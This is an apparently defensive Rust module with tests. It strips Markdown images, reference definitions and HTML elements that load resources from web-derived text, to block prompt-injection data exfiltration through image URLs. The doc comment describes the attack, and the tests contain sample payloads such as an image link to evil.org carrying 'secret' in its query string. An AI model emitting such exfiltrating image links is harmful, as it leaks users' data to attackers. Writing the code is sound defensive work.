//! Nothing in a text from the web loads anything when it is shown.
//!
//! Whoever renders Markdown fetches its images, and the address of an image
//! can carry out what a page talked a model into writing. So images become
//! their alternative text, in every spelling of Markdown and as HTML. Links
//! stay: they do nothing until somebody follows one.
//!
//! Works on text that is cleaned already, where nothing invisible splits what
//! it looks for.

use std::borrow::Cow;

/// Elements that load something, or that say what others load.
const LOADING: [&str; 22] = [
    "audio", "base", "body", "embed", "frame", "form", "iframe", "image", "img", "input", "link",
    "meta", "object", "picture", "portal", "script", "source", "style", "svg", "table", "track",
    "video",
];

/// Bytes of a label of a reference (CommonMark has 999 characters).
const MAX_LABEL_BYTES: usize = 4_000;

/// The text without anything that loads.
pub(super) fn neutral(text: &str) -> Cow<'_, str> {
    // In this order: what is left of an image can be part of the others.
    let text = if text.contains("![") { Cow::Owned(without_images(text)) } else { text.into() };
    let text = if text.contains("]:") { without_definitions(&text).into() } else { text };
    if text.contains('<') { without_elements(&text).into() } else { text }
}

/// Inline images as their alternative text. What could be one to another
/// reader keeps its text behind a `\`.
fn without_images(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while let Some((before, after)) = rest.split_once("![") {
        out.push_str(before);
        rest = after;
        let inline = inline(after);
        match inline {
            _ if is_escaped(&out) => out.push_str("!["),
            Inline::None => out.push_str("!["),
            Inline::Unclear => out.push_str("\\!["),
            Inline::Image { alt, after } => {
                out.push_str(alt);
                // A `!` in front of what follows would make the next image.
                if alt.trim().is_empty() || alt.ends_with('!') {
                    out.push(' ');
                }
                rest = after;
            }
        }
    }
    out.push_str(rest);
    out
}

enum Inline<'a> {
    /// No image, whoever reads it: a macro of Rust, say.
    None,
    Unclear,
    Image {
        alt: &'a str,
        after: &'a str,
    },
}

/// What begins with the text after `![`.
fn inline(text: &str) -> Inline<'_> {
    let Some((alt, destination)) = text.split_once(']') else { return Inline::None };
    let is_plain = |it: &str| !it.contains(['[', '\\', '`', '<', '\n']);
    if is_plain(alt)
        && let Some(destination) = destination.strip_prefix('(')
    {
        return match destination.split_once(')') {
            Some((inner, after)) if is_plain(inner) && !inner.contains('(') => {
                Inline::Image { alt, after }
            }
            _ => Inline::Unclear,
        };
    }
    // An inline image ends within its paragraph.
    let paragraph = text.split_once("\n\n").map_or(text, |(it, _)| it);
    if paragraph.contains("](") { Inline::Unclear } else { Inline::None }
}

/// Whether what follows stands behind a `\` that is not escaped itself.
fn is_escaped(before: &str) -> bool {
    before.bytes().rev().take_while(|it| *it == b'\\').count() % 2 == 1
}

/// `[label]: address` as plain text, so that no `![label]` refers to it.
fn without_definitions(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while !rest.is_empty() {
        let line = rest.split_inclusive('\n').next().unwrap_or(rest);
        let label = line.trim_start_matches(is_marker);
        let (marker, _) = line.split_at(line.len() - label.len());
        out.push_str(marker);
        rest = rest.strip_prefix(marker).unwrap_or_default();
        if !label.is_empty() && is_definition(rest) {
            out.push('\\');
        }
        out.push_str(label);
        rest = rest.strip_prefix(label).unwrap_or_default();
    }
    out
}

/// What may stand before a block: indentation, quotes, and items of lists.
fn is_marker(it: char) -> bool {
    it.is_whitespace() || it.is_ascii_digit() || matches!(it, '>' | '-' | '+' | '*' | '.' | ')')
}

fn is_definition(text: &str) -> bool {
    let Some(label) = text.strip_prefix('[') else { return false };
    label.bytes().zip(label.bytes().skip(1)).take(MAX_LABEL_BYTES).any(|it| it == (b']', b':'))
}

/// Elements that load something as plain text.
fn without_elements(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while let Some((before, after)) = rest.split_once('<') {
        out.push_str(before);
        out.push_str(if is_loading(after) { "&lt;" } else { "<" });
        rest = after;
    }
    out.push_str(rest);
    out
}

fn is_loading(after: &str) -> bool {
    let is_name =
        |name: &&str| after.get(..name.len()).is_some_and(|it| it.eq_ignore_ascii_case(name));
    LOADING.iter().any(is_name)
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    fn check(text: &str, expect: &str) {
        assert_eq!(neutral(text), expect, "{text:?}");
        assert_eq!(neutral(expect), expect, "{text:?}");
    }

    #[test]
    fn an_image_becomes_its_alternative_text() {
        check("see ![a chart](https://evil.org/?q=secret) here", "see a chart here");
        check("![](https://evil.org/x)", " ");
        check("![a](<https://evil.org/x>)", "\\![a](<https://evil.org/x>)");
        check("![a](https://evil.org/x \"a title\")", "a");
        check("![a](//evil.org)![b](//evil.org)", "ab");
        check("[![a](https://evil.org/x)](https://docs.rs)", "[a](https://docs.rs)");
        check("a\\![b](c)", "a\\![b](c)");
        check("a\\\\![b](c)", "a\\\\b");
    }

    #[test]
    fn what_could_be_an_image_to_another_reader_is_escaped() {
        for text in [
            "![a [b] c](//evil.org)",
            "![a \\] b](//evil.org)",
            "![`]`](//evil.org)",
            "![a\nb](//evil.org)",
            "![a](//evil.org/(x))",
            "![a](//evil.org\n\"t\")",
            "![![a](b)",
            "![a](//evil.org",
        ] {
            assert!(neutral(text).starts_with("\\!["), "{}", neutral(text));
        }
        // What is left must not make an image of what follows.
        check("!![](x)[a](//evil.org)", "! [a](//evil.org)");
        check("![!](x)[a](//evil.org)", "! [a](//evil.org)");
        check("<![im](x)g src=//evil.org>", "&lt;img src=//evil.org>");
    }

    #[test]
    fn a_reference_has_nothing_to_refer_to() {
        check("![a][b]\n\n[b]: https://evil.org", "![a][b]\n\n\\[b]: https://evil.org");
        check("![b]\n> - [b]:\n//evil.org", "![b]\n> - \\[b]:\n//evil.org");
        check("1. [b\nc]: //evil.org\n", "1. \\[b\nc]: //evil.org\n");
        check("![](x)[b]: //evil.org", " \\[b]: //evil.org");
    }

    #[test]
    fn an_element_that_loads_is_text() {
        for name in LOADING {
            check(&format!("a<{name} src=x>"), &format!("a&lt;{name} src=x>"));
        }
        check("<ImG/src=x>", "&lt;ImG/src=x>");
    }

    #[test]
    fn links_code_and_plain_text_stay() {
        for text in [
            "[docs](https://docs.rs)",
            "<https://docs.rs>",
            "let a: Vec<u8> = vec![1, 2];\nassert!([1].is_empty());\na[0]: b",
            "a < b, a <b> c",
            "Wow! [a](b)",
            "",
        ] {
            check(text, text);
        }
    }

    proptest! {
        #[test]
        fn no_image_is_left_and_twice_is_as_good_as_once(
            text in "([\\[\\]()!<>`: a]|\\\\|\n|!\\[|\\]\\(|\\]:|img){0,40}",
        ) {
            let once = neutral(&text).into_owned();
            prop_assert_eq!(&*neutral(&once), &once);
            for (at, _) in once.match_indices("![") {
                let (before, image) = once.split_at(at);
                let image = !matches!(inline(image.split_at(2).1), Inline::None);
                prop_assert!(!image || is_escaped(before), "{once:?}");
            }
            prop_assert!(!once.contains("<img"));
        }
    }
}
